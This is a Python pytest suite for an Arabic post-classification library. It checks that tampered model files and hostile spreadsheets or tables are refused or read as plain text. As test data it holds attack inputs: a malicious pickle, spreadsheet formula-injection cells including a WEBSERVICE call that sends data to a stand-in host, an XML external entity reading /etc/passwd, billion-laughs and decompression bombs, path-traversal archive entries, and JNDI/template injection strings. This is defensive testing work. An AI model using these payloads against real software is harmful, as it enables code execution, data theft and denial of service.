"""Models and tables of somebody who means harm: refused, or read as plain text, and nothing else happens."""

import gzip
import hashlib
import json
import os
import pickle
import shutil
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import openpyxl
import pytest
from onnx import helper
from tiny_reader import HIDDEN

from evolunteer_nlp import ModelError, classify, classify_many, load_model
from evolunteer_nlp.corpus.checks import check_corpus
from evolunteer_nlp.corpus.posts import read_corpus
from evolunteer_nlp.dumps.stream import label_dump
from evolunteer_nlp.engine.artefact import load_arrays, save_model
from evolunteer_nlp.errors import EvolunteerError, TableError
from evolunteer_nlp.labels import Label
from evolunteer_nlp.tables.read import Rejected, Row, open_table

ASK = "نحتاج متطوعين لتنظيف الحديقة"


class Bomb:
    """What unpickling it does: it writes a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return Path.touch, (self.marker,)


@pytest.fixture
def marker(tmp_path: Path) -> Iterator[Path]:
    """A file that is never written."""
    path = tmp_path / "executed"
    yield path
    assert not path.exists()


@pytest.fixture
def model(small_cascade: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(small_cascade, tmp_path / "model"))


def put(model: Path, name: str, content: bytes) -> None:
    """Replace a file of a model by another, of which the manifest says that it is right."""
    (model / name).write_bytes(content)
    manifest = json.loads((model / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"][name] = hashlib.sha256(content).hexdigest()
    (model / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def use(model: Path) -> None:
    """Label posts in every way there is."""
    loaded = load_model(model)
    for engine in loaded.decisions:
        classify(ASK, model=loaded, engine=engine)
        list(classify_many([ASK] * 20, model=loaded, engine=engine))


def assert_refused(model: Path) -> None:
    with pytest.raises(ModelError, match=r"copy|train") as caught:
        use(model)
    assert len(str(caught.value)) < 1000


def test_the_model_that_is_tampered_with_works(model: Path) -> None:
    use(model)


# Models


@pytest.mark.parametrize("name", ["arrays.safetensors", "reader.onnx", "tokenizer.json"])
def test_a_pickle_in_a_model_is_not_opened(model: Path, marker: Path, name: str) -> None:
    put(model, name, pickle.dumps(Bomb(marker)))
    assert_refused(model)


FILES = ["manifest.json", "arrays.safetensors", "reader.onnx", "tokenizer.json"]


@pytest.mark.parametrize("name", FILES)
def test_links_out_of_a_model_are_not_followed_even_to_what_would_fit(model: Path, tmp_path: Path, name: str) -> None:
    (model / name).rename(tmp_path / "outside")
    (model / name).symlink_to(tmp_path / "outside")
    assert_refused(model)


@pytest.mark.parametrize("name", FILES)
def test_packages_may_be_installed_as_links(model: Path, tmp_path: Path, name: str) -> None:
    (tmp_path / "cache").mkdir()
    (model / name).rename(tmp_path / "cache" / name)
    (model / name).symlink_to(tmp_path / "cache" / name)
    use(model)


def endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def silent(path: Path) -> None:
    os.mkfifo(path)


def loop(path: Path) -> None:
    path.symlink_to(path)


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(2**40)


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("make", [endless, silent, loop, sparse])
def test_files_without_end_are_not_waited_for(model: Path, name: str, make: Callable[[Path], None]) -> None:
    (model / name).unlink()
    make(model / name)
    assert_refused(model)


def test_retraining_does_not_copy_what_a_link_leads_to(model: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret")
    (model / "notes").symlink_to(tmp_path / "secret")
    (model / "folder").mkdir()
    (model / "folder" / "notes").symlink_to(tmp_path / "secret")
    save_model(model, {}, {"numbers": np.zeros(1)})
    assert (model / "notes").is_symlink()
    assert (model / "folder" / "notes").is_symlink()


def edited(model: Path, path: list[str], value: str) -> None:
    """Put a value, as it stands in JSON, somewhere in a manifest."""
    file = model / "manifest.json"
    manifest = at = json.loads(file.read_text(encoding="utf-8"))
    for name in path[:-1]:
        at = at[name]
    at[path[-1]] = "HERE"
    file.write_text(json.dumps(manifest).replace('"HERE"', value), encoding="utf-8")


NUMBERS = [
    "NaN",
    "1e300",
    "Infinity",
    "-Infinity",
    "1e999",
    "9" * 400,
    "9" * 5000,
    "\"__import__('os').abort()\"",
    "[" * 50 + "]" * 50,
]


@pytest.mark.parametrize("value", NUMBERS, ids=lambda value: value[:20])
@pytest.mark.parametrize(
    "path",
    [["decisions", "cascade", "scale"], ["decisions", "words", "shift", "unrelated"], ["read_from"]],
    ids=".".join,
)
def test_numbers_that_are_none_are_refused(model: Path, path: list[str], value: str) -> None:
    edited(model, path, value)
    assert_refused(model)


@pytest.mark.parametrize("value", ["0", "-0.5"])
def test_a_prior_that_is_none_is_refused(model: Path, value: str) -> None:
    edited(model, ["decisions", "words", "prior", "unrelated"], value)
    assert_refused(model)


def test_two_labels_of_one_name_are_refused(model: Path) -> None:
    edited(model, ["labels"], '["unrelated", "unrelated"]')
    assert_refused(model)


def test_a_label_that_looks_like_code_is_a_text(small_model: Path, tmp_path: Path) -> None:
    code = "{{7*7}}${jndi:x} __import__('os').abort()"
    shutil.copytree(small_model, tmp_path / "model")
    text = (tmp_path / "model/manifest.json").read_text(encoding="utf-8")
    (tmp_path / "model/manifest.json").write_text(text.replace("volunteer_call", code), encoding="utf-8")
    assert code in classify(ASK, model=tmp_path / "model").probabilities


@pytest.mark.parametrize("names", [["../../outside", *FILES[2:]], [*FILES[2:], "../../outside"]])
def test_a_manifest_that_names_other_files_is_refused(model: Path, names: list[str]) -> None:
    edited(model, ["files"], json.dumps(dict.fromkeys(["arrays.safetensors", *names], "0")))
    assert_refused(model)


def with_header(model: Path, change: Callable[[dict[str, Any]], object]) -> None:
    content = (model / "arrays.safetensors").read_bytes()
    start = 8 + int.from_bytes(content[:8], "little")
    header = json.loads(content[8:start])
    change(header)
    text = json.dumps(header).encode()
    put(model, "arrays.safetensors", len(text).to_bytes(8, "little") + text + content[start:])


@pytest.mark.parametrize(
    "offsets",
    [
        [-8, 0],
        [-(2**70), 2**70],
        [0, 2**62],
        [2**62, 2**63],
        [8, 0],
        [0.0, 8.0],
        [float("nan"), 1],
        ["0", "8"],
        [0],
        {},
    ],
    ids=str,
)
@pytest.mark.parametrize("array", ["numbers", "head_bias"])
def test_offsets_that_lead_elsewhere_are_refused(model: Path, array: str, offsets: Any) -> None:
    with_header(model, lambda header: header[array].update(data_offsets=offsets))
    assert_refused(model)


def test_a_shape_is_not_believed(model: Path) -> None:
    with_header(model, lambda header: header["weights"].update(shape=[2**60, 2**60]))
    use(model)


def changed_arrays(model: Path, **changes: Callable[[Any], Any]) -> None:
    manifest, views = load_arrays(model)
    reader = [(model / name).read_bytes() for name in FILES[2:]]
    arrays = {name: np.array(view) for name, view in views.items()}
    for name, change in changes.items():
        arrays[name] = change(arrays[name])
    save_model(model, manifest, arrays, reader)


@pytest.mark.parametrize("number", [np.nan, np.inf])
@pytest.mark.parametrize("name", ["weights", "intercept", "head_weights", "head_bias"])
def test_weights_that_are_no_numbers_are_told(model: Path, name: str, number: float) -> None:
    changed_arrays(model, **{name: lambda array: np.full_like(array, number)})
    assert_refused(model)


def test_features_are_not_looked_up_beyond_the_end(model: Path) -> None:
    def beyond(buckets: Any) -> Any:
        buckets[1:-1:2], buckets[2:-1:2] = 0, 2**32 - 1
        return buckets

    changed_arrays(model, buckets=beyond)
    with pytest.raises(ModelError):
        classify(ASK, model=model, engine="words")


def test_a_reader_that_wants_other_input_is_told(model: Path) -> None:
    network = onnx.ModelProto.FromString((model / "reader.onnx").read_bytes())
    network.graph.input[0].name = "other"
    for node in network.graph.node:
        node.input[:] = ["other" if name == "ids" else name for name in node.input]
    put(model, "reader.onnx", network.SerializeToString())
    assert_refused(model)


def added_piece(parts: dict[str, Any]) -> None:
    parts["added_tokens"].append(parts["added_tokens"][0] | {"id": 10**6, "content": "نحتاج"})


def no_ends(parts: dict[str, Any]) -> None:
    parts["post_processor"] = parts["pre_tokenizer"] = None
    parts["model"] = {"type": "WordLevel", "vocab": {}, "unk_token": "<none>"}


def endless_nesting(parts: dict[str, Any]) -> None:
    at = parts
    for _ in range(500):
        at["normalizer"] = {"type": "Sequence", "normalizers": []}
        at = at["normalizer"]


def unknown_beyond(parts: dict[str, Any]) -> None:
    parts["model"]["unk_id"] = 2**40


@pytest.mark.parametrize("change", [added_piece, no_ends, endless_nesting, unknown_beyond])
def test_a_tokenizer_that_does_not_fit_is_told(model: Path, change: Callable[[dict[str, Any]], None]) -> None:
    parts = json.loads((model / "tokenizer.json").read_bytes())
    change(parts)
    put(model, "tokenizer.json", json.dumps(parts).encode())
    assert_refused(model)


def network(output: Any, **attributes: Any) -> bytes:
    """A network that makes its embeddings of nothing but a shape."""
    shape = helper.make_tensor("shape", onnx.TensorProto.INT64, [len(output)], output)
    node = helper.make_node("ConstantOfShape", ["shape"], ["embedding"], **attributes)
    ids = helper.make_tensor_value_info("ids", onnx.TensorProto.INT64, ["n", "length"])
    embedding = helper.make_tensor_value_info("embedding", onnx.TensorProto.FLOAT, ["n", HIDDEN])
    graph = helper.make_graph([node], "g", [ids], [embedding], [shape])
    return bytes(
        helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8).SerializeToString()
    )


NAN = helper.make_tensor("value", onnx.TensorProto.FLOAT, [1], [float("nan")])


@pytest.mark.parametrize("content", [network([1, HIDDEN + 1]), network([1, HIDDEN], value=NAN)], ids=["wide", "nan"])
def test_embeddings_that_do_not_fit_are_told(model: Path, content: bytes) -> None:
    put(model, "reader.onnx", content)
    with pytest.raises(ModelError, match="copy"):
        classify(ASK, model=model, engine="reader")


def within(megabytes: int, code: str, *arguments: Path) -> str:
    """What code prints in a process that may have so much memory, and a minute."""
    limit = f"import resource, sys; resource.setrlimit(resource.RLIMIT_AS, ({megabytes << 20},) * 2)\n"
    command = [sys.executable, "-c", limit + textwrap.dedent(code), *map(str, arguments)]
    environment = os.environ | {"OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"}
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


USE = """
    from evolunteer_nlp import ModelError, classify
    try:
        classify("نحتاج متطوعين", model=sys.argv[1], engine="reader")
    except ModelError as error:
        print(error)
"""


def test_a_network_that_wants_a_terabyte_gets_none(model: Path) -> None:
    put(model, "reader.onnx", network([2**28, 2**10]))
    assert "copy it again" in within(4000, USE, model)


# Tables

TABLES = ["a.csv", "a.tsv", "a.json", "a.jsonl", "a.parquet", "a.xlsx", "a.csv.gz"]

READ = """
    from pathlib import Path
    from evolunteer_nlp.errors import EvolunteerError
    from evolunteer_nlp.tables.read import open_table
    try:
        with open_table(Path(sys.argv[1])) as table:
            print(sum(1 for row in table.rows), "rows")
    except EvolunteerError as error:
        print(str(error)[:500])
"""


def read(path: Path) -> list[Any]:
    """The rows of a table, or nothing if it is refused by an error of the library."""
    try:
        with open_table(path) as table:
            return list(table.rows)
    except EvolunteerError as error:
        assert len(str(error)) < 5000
        return []


@pytest.mark.parametrize("name", TABLES)
@pytest.mark.parametrize("protocol", [0, 5])  # the first is ASCII
def test_a_pickle_is_no_table(tmp_path: Path, marker: Path, name: str, protocol: int) -> None:
    content = pickle.dumps(Bomb(marker), protocol)
    (tmp_path / name).write_bytes(gzip.compress(content) if name.endswith("gz") else content)
    for row in read(tmp_path / name):
        assert isinstance(row, Rejected) or all(isinstance(value, str) for value in row.values.values())


@pytest.mark.parametrize("cell", ["=cmd|'/c calc'!A1", '=WEBSERVICE("http://x/"&A1)', "@SUM(1)", "+1", "-2+3"])
def test_formulas_are_text_in_csv_and_not_computed_in_excel(tmp_path: Path, cell: str) -> None:
    (tmp_path / "a.csv").write_text(f"text,x\n'{cell}',\"{cell.replace(chr(34), chr(34) * 2)}\"\n", encoding="utf-8")
    (row,) = read(tmp_path / "a.csv")
    assert isinstance(row, Row)
    assert row.values["x"] == cell
    book = openpyxl.Workbook()
    book.active.append(["text", "x"])
    book.active.append([ASK, cell])
    book.save(tmp_path / "a.xlsx")
    (row,) = read(tmp_path / "a.xlsx")
    assert row.values == {"text": ASK, "x": None if cell.startswith("=") else cell}


def workbook(path: Path, **parts: bytes) -> Path:
    """A small workbook, some of its parts replaced: sheet, strings, or others that are added."""
    names = {"sheet": "xl/worksheets/sheet1.xml", "strings": "xl/sharedStrings.xml"}
    book = openpyxl.Workbook()
    book.active.append(["text"])
    book.active.append([ASK])
    book.save(path.with_suffix(".small"))
    new = {names.get(name, name): content for name, content in parts.items()}
    with zipfile.ZipFile(path.with_suffix(".small")) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name in {*old.namelist(), *new}:
            file.writestr(name, new.get(name) or old.read(name))
    path.with_suffix(".small").unlink()
    return path


def sheet(rows: str, head: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<?xml version="1.0"?>{head}<worksheet xmlns="{space}">{rows}</worksheet>'.encode()


def cells(number: int, text: str) -> str:
    return f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>{text}</t></is></c></row>'


TEXT = cells(1, "text")


def test_a_workbook_is_read(tmp_path: Path) -> None:
    (row,) = read(workbook(tmp_path / "a.xlsx", sheet=sheet(f"<sheetData>{TEXT}{cells(2, ASK)}</sheetData>")))
    assert row.values == {"text": ASK}


@pytest.mark.parametrize("part", ["sheet", "strings", "xl/media/image1.png"])
def test_a_workbook_that_unpacks_without_end_is_refused(tmp_path: Path, part: str) -> None:
    path = workbook(tmp_path / "a.xlsx", **{part: sheet("<sheetData>" + " " * 2**28)})
    assert path.stat().st_size < 2**20
    assert "to 268,4" in within(1000, READ, path)


def test_a_workbook_that_lies_about_its_size_is_not_believed(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", sheet=sheet(f"<sheetData>{TEXT}" + " " * 2**28))
    content = path.read_bytes()
    with zipfile.ZipFile(path) as file:
        size = next(part.file_size for part in file.infolist() if part.file_size > 2**28)
    path.write_bytes(content.replace(size.to_bytes(4, "little"), (5000).to_bytes(4, "little")))
    assert "Excel workbook" in within(1000, READ, path)


LAUGHS = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha"}">' for i in range(12))


@pytest.mark.parametrize(
    "content",
    [
        sheet(f"<sheetData>{TEXT}{cells(2, '&a11;')}</sheetData>", f"<!DOCTYPE x [{LAUGHS}]>"),
        sheet(
            f"<sheetData>{TEXT}{cells(2, '&a;')}</sheetData>", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        ),
        sheet(f"<sheetData>{TEXT}<row r='2'><c r='A2' t='s'><v>999</v></c></row></sheetData>"),
        sheet(f"<sheetData>{TEXT}<row r='2'><c r='A{'9' * 5000}'><v>1</v></c></row></sheetData>"),
        sheet(f"<sheetData>{TEXT}<row r='x'><c r='A2'><v>1</v></c></row></sheetData>"),
        sheet(f"<sheetData>{TEXT}<row r='2'>"),
        b"",
    ],
    ids=["laughs", "file", "no string", "no cell", "no row", "cut", "empty"],
)
def test_a_workbook_that_is_wrong_inside_is_refused(tmp_path: Path, content: bytes) -> None:
    path = workbook(tmp_path / "a.xlsx", sheet=content or b" ")
    found = within(1000, READ, path)
    assert "Excel workbook" in found
    assert "root:" not in found


@pytest.mark.parametrize("last", [2**20, 10**12])
def test_empty_rows_and_columns_that_a_sheet_claims_cost_nothing(tmp_path: Path, last: int) -> None:
    size = f'<dimension ref="A1:XFD{2**20}"/>'
    path = workbook(tmp_path / "a.xlsx", sheet=sheet(f"{size}<sheetData>{TEXT}{cells(last, ASK)}</sheetData>"))
    assert within(1000, READ, path) == f"{int(last == 2**20)} rows\n"


def test_nothing_is_unpacked_beside_a_workbook(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    read(workbook(tmp_path / "in" / "a.xlsx", **{"../outside": b"x", "/tmp/outside": b"x"}))
    assert [path.name for path in tmp_path.rglob("*")] == ["in", "a.xlsx"]


@pytest.mark.parametrize(
    ("name", "start"),
    [("a.csv.gz", ""), ("a.tsv.gz", 'text\n"'), ("a.jsonl.gz", '{"text": "')],
    ids=["header", "row", "object"],
)
def test_a_line_without_end_is_not_held(tmp_path: Path, name: str, start: str) -> None:
    with gzip.open(tmp_path / name, "wb", compresslevel=1) as file:
        file.write(start.encode())
        for _ in range(2**8):
            file.write(b"a" * 2**20)
    assert "a line of more than" in within(1000, READ, tmp_path / name)


def test_a_quote_that_takes_in_all_lines_is_not_held(tmp_path: Path) -> None:
    with gzip.open(tmp_path / "a.csv.gz", "wb", compresslevel=1) as file:
        file.write(b'text\n"')
        for _ in range(2**8):
            file.write((b"a" * 1023 + b"\n") * 2**10)
    assert "rows" in within(1000, READ, tmp_path / "a.csv.gz")


def test_a_row_of_a_million_fields_is_rejected(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(f"text\n{'a,' * 1_000_000}\n{ASK}\n", encoding="utf-8")
    wide, row = read(tmp_path / "a.csv")
    assert wide.reason == "1000001 fields where the header has 1"
    assert row.values == {"text": ASK}


@pytest.mark.parametrize("name", ["a.csv", "a.jsonl"])
@pytest.mark.parametrize("column", ["x", "x" * 1000, "x" * 100_000])
def test_a_header_of_very_many_or_long_names_is_not_printed(tmp_path: Path, name: str, column: str) -> None:
    names = [f"{column}{i}" for i in range(200_000 // len(column) + 1)]
    line = json.dumps(dict.fromkeys(names, 1)) if name == "a.jsonl" else ",".join(names)
    (tmp_path / name).write_text(line + "\n", encoding="utf-8")
    with open_table(tmp_path / name) as table, pytest.raises(TableError) as caught:
        table.text_column()
    assert len(str(caught.value)) < 5000


def test_names_in_a_corpus_lead_nowhere(tmp_path: Path, small_model: Path) -> None:
    names = ("id", "batch", "source", "pair", "platform", "file", "../../outside")
    posts = [
        {"text": f"{ASK} {i}", "label": "volunteer_call", **dict.fromkeys(names, "../../outside")} for i in range(3)
    ]
    home = tmp_path / "a" / "b" / "c"
    home.mkdir(parents=True)
    (home / "in.jsonl").write_text("\n".join(map(json.dumps, posts)), encoding="utf-8")
    check_corpus(read_corpus([home]), [str(label) for label in Label], "unrelated")
    label_dump(home / "in.jsonl", home / "out.csv", load_model(small_model))
    assert {path.name for path in tmp_path.rglob("*")} == {"a", "b", "c", "in.jsonl", "out.csv", "out.csv.done.json"}
